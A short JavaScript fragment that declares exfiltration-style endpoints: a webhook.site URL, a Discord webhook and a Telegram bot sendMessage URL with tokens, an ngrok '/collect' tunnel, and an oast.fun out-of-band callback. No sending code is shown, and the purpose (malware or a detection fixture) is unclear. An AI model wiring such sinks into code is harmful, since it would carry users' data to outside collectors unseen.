const https = require('https');
const target = 'https://webhook.site/3f1e2a4b-7c9d-4e11-9a0b-5d6c7e8f9a01';
const hook = "https://discord.com/api/webhooks/1187234567890123456/aBcDeFgHiJkLmNoPqRsTuVwXyZ_0123456789-abcdefGHIJ";
const bot = 'https://api.telegram.org/bot7012345678:AAHc9dQx-Lr5mN2pQ7sT8uV3wX4yZ6aB1cD/sendMessage';
const tunnel = "https://3f2a-203-0-113-7.ngrok-free.app/collect";
const oob = `http://${id}.oast.fun/x`;
